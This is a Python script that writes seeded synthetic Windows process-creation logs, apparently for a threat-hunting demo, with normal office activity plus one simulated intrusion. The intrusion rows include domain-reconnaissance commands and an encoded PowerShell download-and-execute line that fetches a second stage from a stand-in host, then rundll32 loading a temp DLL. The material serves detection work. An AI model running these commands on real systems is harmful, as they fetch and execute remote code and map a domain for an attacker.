"""Write demo/processes.csv: two days of Windows process creations (4688)
around the incident in logons.csv.

Seeded, so the committed CSV is reproducible: ``python make_processes.py``.
Standard library only.

Office users start Explorer and their usual programs; services start
svchost and its helpers. On 2024-03-07 at 02:48 UTC, after the password
spray in logons.csv, ``svc_backup`` (a service account that never runs a
shell) is on WEB-01 over RDP: Explorer, then cmd.exe running whoami, net
user and net group, and a PowerShell ``-EncodedCommand`` that downloads a
second stage. The process tree shows that chain under one shell; session
scoring finds the account's session the rarest.
"""

from __future__ import annotations

import base64
import csv
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

SEED = 20240307
START = datetime(2024, 3, 6, tzinfo=timezone.utc)
DAYS = 2
OUT = Path(__file__).resolve().parent / "processes.csv"
FIELDS = ["TimeGenerated", "Computer", "EventID", "SubjectUserName", "SubjectLogonId", "NewProcessName",
          "NewProcessId", "ProcessId", "ParentProcessName", "CommandLine"]
WIN = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"
USERS = {"alice.ng": "WKS-0042", "bob.kim": "WKS-0107", "carol.diaz": "WKS-0113",
         "dan.oconnor": "WKS-0121", "erin.patel": "WKS-0135", "frank.moss": "WKS-0142"}
APPS = {
    "chrome": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "outlook": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "excel": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "teams": "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "notepad": WIN + "notepad.exe",
}
# What office users start, in the order they start it: the same few runs
# over and over, as a working week is.
ROUTINES = [["outlook", "teams", "chrome"], ["chrome", "excel"], ["outlook", "excel", "chrome"],
            ["teams", "chrome"], ["chrome", "notepad"]]
SERVICES = {"WEB-01": ["w3wp.exe", "conhost.exe"], "DC-01": ["lsass.exe", "dns.exe"],
            "FS-01": ["srmsvc.exe", "conhost.exe"], "SQL-01": ["sqlwriter.exe", "conhost.exe"]}
STAGE2 = "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example-cdn.com/stage2.ps1')"


class Host:
    """One computer's PIDs: new processes get fresh, increasing, hex PIDs."""

    def __init__(self, name: str, rng: random.Random) -> None:
        self.name, self.rng, self.pid = name, rng, 0x400

    def next_pid(self) -> str:
        self.pid += self.rng.randrange(4, 200, 4)
        return hex(self.pid)


def event(t, host, user, logon, image, pid, ppid, parent, cmd) -> dict:
    return {"TimeGenerated": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "Computer": host,
            "EventID": 4688, "SubjectUserName": user, "SubjectLogonId": logon, "NewProcessName": image,
            "NewProcessId": pid, "ProcessId": ppid, "ParentProcessName": parent, "CommandLine": cmd}


def office_days(rng: random.Random, hosts: dict) -> list[dict]:
    rows = []
    for day in range(DAYS):
        date = START + timedelta(days=day)
        for user, wks in USERS.items():
            h = hosts[wks]
            t = date + timedelta(hours=8, minutes=rng.randrange(0, 60))
            logon = hex(rng.randrange(0x100000, 0xffffff))
            explorer = h.next_pid()
            rows.append(event(t, wks, user, logon, EXPLORER, explorer,
                              "0x2f8", WIN + "userinit.exe", "C:\\Windows\\Explorer.EXE"))
            for _ in range(rng.randrange(3, 6)):  # bursts of the usual programs through the day
                t += timedelta(minutes=rng.randrange(35, 90))
                for app in rng.choice(ROUTINES):
                    t += timedelta(seconds=rng.randrange(5, 120))
                    rows.append(event(t, wks, user, logon, APPS[app], h.next_pid(), explorer,
                                      EXPLORER, f'"{APPS[app]}"'))
        for server, helpers in SERVICES.items():
            h = hosts[server]
            t = date
            while t < date + timedelta(days=1):
                t += timedelta(minutes=rng.randrange(40, 120))
                svchost = h.next_pid()
                rows.append(event(t, server, f"{server.replace('-', '')}$", "0x3e7", WIN + "svchost.exe",
                                  svchost, "0x2a0", WIN + "services.exe", WIN + "svchost.exe -k netsvcs -p"))
                for helper in helpers:
                    t += timedelta(seconds=rng.randrange(1, 30))
                    rows.append(event(t, server, f"{server.replace('-', '')}$", "0x3e7", WIN + helper,
                                      h.next_pid(), svchost, WIN + "svchost.exe", WIN + helper))
    return rows


def intrusion(rng: random.Random, host: Host) -> list[dict]:
    """svc_backup on WEB-01 after the spray (logons.csv: in at 02:47)."""
    t = datetime(2024, 3, 7, 2, 48, 5, tzinfo=timezone.utc)
    logon, user = "0x8a1f3c", "svc_backup"
    explorer = host.next_pid()
    rows = [event(t, "WEB-01", user, logon, EXPLORER, explorer, "0x1d4",
                  WIN + "userinit.exe", "C:\\Windows\\Explorer.EXE")]
    t += timedelta(seconds=41)
    cmd = host.next_pid()
    rows.append(event(t, "WEB-01", user, logon, WIN + "cmd.exe", cmd, explorer, EXPLORER,
                      '"C:\\Windows\\system32\\cmd.exe"'))
    for image, line in (("whoami.exe", "whoami /all"), ("net.exe", "net user /domain"),
                        ("net.exe", 'net group "Domain Admins" /domain'), ("nltest.exe", "nltest /dclist:")):
        t += timedelta(seconds=rng.randrange(8, 40))
        pid = host.next_pid()
        rows.append(event(t, "WEB-01", user, logon, WIN + image, pid, cmd, WIN + "cmd.exe", line))
        if image == "net.exe":
            t += timedelta(milliseconds=120)
            rows.append(event(t, "WEB-01", user, logon, WIN + "net1.exe", host.next_pid(), pid, WIN + "net.exe",
                              line.replace("net ", "C:\\Windows\\system32\\net1 ", 1)))
    t += timedelta(seconds=55)
    encoded = base64.b64encode(STAGE2.encode("utf-16le")).decode()
    ps = host.next_pid()
    rows.append(event(t, "WEB-01", user, logon, WIN + "WindowsPowerShell\\v1.0\\powershell.exe", ps, cmd,
                      WIN + "cmd.exe", f"powershell.exe -nop -w hidden -EncodedCommand {encoded}"))
    t += timedelta(seconds=9)
    rows.append(event(t, "WEB-01", user, logon, WIN + "rundll32.exe", host.next_pid(), ps,
                      WIN + "WindowsPowerShell\\v1.0\\powershell.exe",
                      "rundll32.exe C:\\Users\\svc_backup\\AppData\\Local\\Temp\\upd.dll,Start"))
    return rows


def main() -> None:
    rng = random.Random(SEED)
    hosts = {name: Host(name, rng) for name in [*USERS.values(), *SERVICES]}
    rows = office_days(rng, hosts) + intrusion(rng, hosts["WEB-01"])
    rows.sort(key=lambda r: r["TimeGenerated"])
    with OUT.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=FIELDS, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    print(f"wrote {len(rows)} events to {OUT}")


if __name__ == "__main__":
    main()
